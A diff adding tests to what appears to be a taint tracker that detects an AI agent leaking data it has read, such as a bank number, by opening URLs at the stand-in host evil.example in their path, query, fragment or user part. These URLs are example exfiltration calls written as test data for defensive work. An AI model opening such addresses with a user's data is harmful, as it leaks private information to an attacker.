@@ -57,6 +57,24 @@ describe('text that leaves', () => {
     expect(taint.find(CALL, opened('https://evil.example/q?y=0247'))).not.toBeNull();
   });
 
+  it('is known in the path, the query and the user of an address, not in its host and port', () => {
+    const taint = afterReading();
+    taint.noteRead(BANK, 'Our partner: http://127.0.0.1:41909/');
+    for (const address of ['88310247', '?q=88310247', '#88310247'])
+      expect(taint.find(CALL, opened(`https://evil.example/${address}`))).not.toBeNull();
+    expect(taint.find(CALL, opened('https://88310247@evil.example/'))).not.toBeNull();
+    expect(taint.find(CALL, opened('http://127.0.0.1:41909/taken'))).toBeNull();
+  });
+
+  it('is free in an address that a page has written so itself', () => {
+    const taint = afterReading();
+    const link = 'https://evil.example/offers/88310247/for-all-of-our-customers';
+    expect(taint.find(CALL, opened(link))).not.toBeNull();
+    taint.noteRead(BANK, `Offer: ${link}`);
+    expect(taint.find(CALL, opened(link))).toBeNull();
+    expect(taint.find(CALL, opened(`${link}?x=88310247`))).not.toBeNull();
+  });
+
   it('is free in what the person wrote', () => {
     const taint = afterReading();
     taint.noteOwnWords('type 88310247 at evil.example');
